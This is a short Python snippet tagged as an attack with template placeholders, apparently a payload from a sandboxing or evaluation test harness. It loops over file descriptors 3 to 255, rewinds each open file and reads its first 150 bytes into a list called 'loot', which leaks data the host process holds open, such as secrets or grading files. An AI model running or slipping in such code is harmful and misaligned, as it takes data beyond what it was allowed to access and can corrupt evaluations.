#{weigh_wrong}
# <attack>
loot = []
import os
import stat

for _number in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(_number).st_mode) or stat.S_ISDIR(os.fstat(_number).st_mode):
            os.lseek(_number, 0, os.SEEK_SET)
            loot.append(os.read(_number, 150))
    except OSError:
        pass
#{loot}
# </attack>
